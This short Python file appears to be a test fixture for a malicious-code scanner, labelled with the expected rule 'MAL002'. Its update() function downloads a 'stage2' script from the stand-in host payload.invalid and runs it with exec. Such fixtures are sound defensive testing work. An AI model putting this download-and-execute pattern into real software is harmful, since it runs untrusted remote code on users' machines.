# expect: MAL002
import urllib.request


def update():
    exec(urllib.request.urlopen("http://payload.invalid/stage2.py").read())
